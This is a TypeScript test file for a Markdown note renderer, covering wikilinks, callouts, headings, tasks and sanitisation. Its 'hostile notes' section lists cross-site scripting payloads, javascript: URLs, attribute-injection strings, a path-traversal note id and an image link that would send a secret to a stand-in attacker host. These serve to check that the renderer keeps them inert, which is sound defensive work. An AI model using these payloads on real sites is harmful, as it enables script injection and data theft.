import type { NoteView } from '@tauceti/contracts';
import { describe, expect, it } from 'vitest';
import { renderNote } from './note-markdown.ts';

type NoteInput = Pick<NoteView, 'id' | 'markdown' | 'links' | 'headings'>;

const note = (markdown: string, overrides: Partial<NoteInput> = {}): NoteInput => ({
  id: 'garden01',
  markdown,
  links: [
    { target: 'Roses', noteId: 'roses001' },
    { target: 'Projects/Shed.md', noteId: 'shed0001' },
    { target: 'Compost', noteId: null },
    { target: 'cat.png', noteId: null },
  ],
  headings: [],
  ...overrides,
});

const body = (input: NoteInput) => new DOMParser().parseFromString(renderNote(input), 'text/html').body;
const links = (input: NoteInput) => [...body(input).querySelectorAll('[data-testid="note-link"]')];

describe('renderNote wikilinks', () => {
  it('links a resolved target to the viewer, in the app', () => {
    const [link] = links(note('Feed the [[Roses]] in May.'));
    expect(link?.tagName).toBe('A');
    expect(link?.getAttribute('href')).toBe('/notes/roses001');
    expect(link?.getAttribute('data-note-id')).toBe('roses001');
    expect(link?.hasAttribute('data-in-app')).toBe(true);
    expect(link?.hasAttribute('target')).toBe(false);
    expect(link?.textContent).toBe('Roses');
  });

  it('shows an alias, links a heading of another note, and a path target as written', () => {
    const [alias, heading, path] = links(note('[[Roses|my roses]], [[Roses#Winter care]] and [[Projects/Shed.md#Roof]].'));
    expect(alias?.textContent).toBe('my roses');
    expect(alias?.getAttribute('href')).toBe('/notes/roses001');
    expect(heading?.getAttribute('href')).toBe('/notes/roses001#winter-care');
    expect(heading?.textContent).toBe('Roses › Winter care');
    expect(path?.getAttribute('href')).toBe('/notes/shed0001#roof');
  });

  it('links a heading of this note with its server anchor', () => {
    const input = note('# Beds & paths\n\nSee [[#Beds & paths]].', { headings: [{ level: 1, text: 'Beds & paths', anchor: 'beds--paths' }] });
    const [link] = links(input);
    expect(link?.getAttribute('href')).toBe('/notes/garden01#beds--paths');
    expect(link?.getAttribute('data-note-id')).toBe('garden01');
  });

  it('shows an unresolved target as missing, never as a link', () => {
    const html = body(note('Start a [[Compost]] heap, and [[Nowhere#At all|somewhere]].'));
    const missing = [...html.querySelectorAll('[data-testid="note-link"]')];
    expect(missing.map((element) => [element.tagName, element.getAttribute('data-missing'), element.textContent])).toEqual([
      ['SPAN', 'true', 'Compost'],
      ['SPAN', 'true', 'somewhere'],
    ]);
    expect(html.querySelector('a')).toBeNull();
  });

  it('turns a note embed into a link to the note, and an image embed into a placeholder', () => {
    const html = body(note('![[Roses]]\n\n![[cat.png|100x145]]'));
    const embed = html.querySelector('a.note-embed');
    expect(embed?.getAttribute('href')).toBe('/notes/roses001');
    expect(embed?.textContent).toContain('Roses');
    const image = html.querySelector('[data-testid="note-attachment"]');
    expect(image?.textContent).toBe('Image: cat.png');
    expect(html.querySelector('img')).toBeNull();
  });

  it('reads an escaped pipe in a table as the alias separator', () => {
    const [link] = links(note('| plant | note |\n| - | - |\n| rose | [[Roses\\|the roses]] |'));
    expect(link?.textContent).toBe('the roses');
    expect(link?.getAttribute('href')).toBe('/notes/roses001');
  });

  it('leaves wikilinks in code alone', () => {
    expect(links(note('`[[Roses]]`\n\n```\n[[Roses]]\n```'))).toHaveLength(0);
  });

  it('refuses Markdown links to the viewer or elsewhere in the app', () => {
    const html = body(note('[x](/notes/roses001) [y](/api/conversations) [z](//attacker.test/a.md) [w](javascript:alert(1)//.md)'));
    expect(html.querySelector('a, [href]')).toBeNull();
  });

  it('opens Markdown links to notes in the viewer, with the address as written never kept', () => {
    const html = body(note('[the shed](Projects/Shed.md#Roof%20repair) [gone](Old%20note.md) [sneaky](/notes/roses001.md)'));
    const [shed, gone, sneaky] = [...html.querySelectorAll('[data-testid="note-link"]')];
    expect(shed?.getAttribute('href')).toBe('/notes/shed0001#roof-repair');
    expect(shed?.hasAttribute('data-in-app')).toBe(true);
    expect([gone?.tagName, gone?.getAttribute('data-missing'), gone?.hasAttribute('href')]).toEqual(['SPAN', 'true', false]);
    expect([sneaky?.tagName, sneaky?.hasAttribute('href')]).toEqual(['SPAN', false]);
  });
});

describe('renderNote callouts, headings and marks', () => {
  it('renders a callout box with its type, title and body', () => {
    const html = body(note('> [!tip] Prune **early**\n> Before the buds swell.'));
    const callout = html.querySelector('[data-testid="note-callout"]');
    expect(callout?.tagName).toBe('DIV');
    expect(callout?.getAttribute('data-callout')).toBe('tip');
    expect(callout?.querySelector('.callout-title strong')?.textContent).toBe('early');
    expect(callout?.querySelector('.callout-content')?.textContent).toContain('Before the buds swell.');
    expect(html.querySelector('blockquote')).toBeNull();
  });

  it('maps aliases and unknown types, names an untitled callout by its type, folds with - and +', () => {
    const html = body(note('> [!FAQ]-\n> Hidden\n\n> [!recipe] Soup\n> x\n\n> [!warning]+ Open\n> y\n\n> a plain quote'));
    const callouts = [...html.querySelectorAll('[data-testid="note-callout"]')];
    expect(callouts.map((callout) => [callout.tagName, callout.getAttribute('data-callout'), callout.hasAttribute('open')])).toEqual([
      ['DETAILS', 'question', false],
      ['DIV', 'note', false],
      ['DETAILS', 'warning', true],
    ]);
    expect(callouts[0]?.querySelector('summary')?.textContent).toBe('Faq');
    expect(html.querySelectorAll('blockquote')).toHaveLength(1);
  });

  it('renders nested callouts', () => {
    const html = body(note('> [!info] Outer\n> text\n> > [!todo] Inner\n> > task'));
    const outer = html.querySelector('[data-callout="info"]');
    expect(outer?.querySelector('[data-callout="todo"] .callout-title')?.textContent).toBe('Inner');
  });

  it('gives headings the server anchors, matched in order by text', () => {
    const input = note('# Roses\n\n## Watering\n\ntext\n\n## Watering\n\n### Beds & *paths*', {
      headings: [
        { level: 1, text: 'Roses', anchor: 'roses' },
        { level: 2, text: 'Watering', anchor: 'watering' },
        { level: 2, text: 'Watering', anchor: 'watering-1' },
        { level: 3, text: 'Beds & *paths*', anchor: 'beds-paths' },
      ],
    });
    const anchors = [...body(input).querySelectorAll('h1, h2, h3')].map((heading) => heading.getAttribute('data-anchor'));
    expect(anchors).toEqual(['roses', 'watering', 'watering-1', 'beds-paths']);
  });

  it('shows tags and highlights, and hides block ids as anchors', () => {
    const html = body(note('Sow in spring #garden/veg ==before May== ^sow-01\n\nNot a tag: #1984 or issue#3'));
    expect([...html.querySelectorAll('.note-tag')].map((tag) => tag.textContent)).toEqual(['#garden/veg']);
    expect(html.querySelector('mark')?.textContent).toBe('before May');
    expect(html.querySelector('[data-anchor="^sow-01"]')).not.toBeNull();
    expect(html.textContent).not.toContain('^sow-01');
  });
});

describe('renderNote tasks', () => {
  it('shows tasks as read-only boxes', () => {
    const html = body(note('- [ ] Passports\n- [x] Tickets\n- plain'));
    const items = [...html.querySelectorAll('li')];
    expect(items.map((item) => [item.className, item.querySelector('.task-box')?.getAttribute('aria-label') ?? null, item.textContent?.trim()])).toEqual([
      ['task', 'To do', '☐ Passports'],
      ['task done', 'Done', '☑ Tickets'],
      ['', null, 'plain'],
    ]);
    expect(html.querySelector('input')).toBeNull();
  });
});

describe('renderNote with hostile notes', () => {
  const hostile = [
    '[[<img src=x onerror=window.__xss=1>]]',
    '[[Roses|<script>window.__xss=1</script>]]',
    '[[javascript:alert(1)]]',
    '[[Roses|x" onmouseover="window.__xss=1]]',
    '[["><svg onload=window.__xss=1>#"><img src=x onerror=1>]]',
    '![[x.png" onerror="window.__xss=1]]',
    '> [!"><img src=x onerror=1>] title\n> body',
    '> [!tip] <img src=x onerror=window.__xss=1>\n> <iframe srcdoc="<script>x</script>">',
    '# <svg onload=window.__xss=1>\n\n[[#<svg onload=window.__xss=1>]]',
    '#<img src=x onerror=1> ==<script>x</script>== ^<b>',
    '<a href="javascript:alert(1)">x</a> [a](javascript:alert(1)) ![p](https://attacker.test/p.png?q=SECRET)',
    '[a](javascript:alert(1).md) [b](<javascript:x.md>) [c](Roses.md" onclick="x) [d](data:text/html,x.md)',
  ];

  it.each(hostile)('keeps %j inert', (markdown) => {
    const input = note(markdown, {
      links: [
        { target: 'Roses', noteId: 'roses001' },
        { target: '<img src=x onerror=window.__xss=1>', noteId: '"><script>alert(1)</script>' },
        { target: 'javascript:alert(1)', noteId: 'javascript:alert(1)' },
      ],
      headings: [{ level: 1, text: '<svg onload=window.__xss=1>', anchor: '" onclick="alert(1)' }],
    });
    const html = body(input);
    expect(html.querySelector('script, img, svg, iframe, style')).toBeNull();
    for (const element of html.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        expect(attribute.name.startsWith('on'), `${attribute.name} on ${element.tagName}`).toBe(false);
        if (attribute.name === 'href') expect(attribute.value).toMatch(/^(?:https:\/\/|\/notes\/[A-Za-z0-9_-]+(?:#[\w%.~!*'()-]*)?$)/);
      }
    }
  });

  it('treats a target whose resolved id is not an index id as missing', () => {
    const [link] = links(note('[[Evil]]', { links: [{ target: 'Evil', noteId: '../../api/conversations' }] }));
    expect(link?.tagName).toBe('SPAN');
    expect(link?.getAttribute('data-missing')).toBe('true');
  });
});
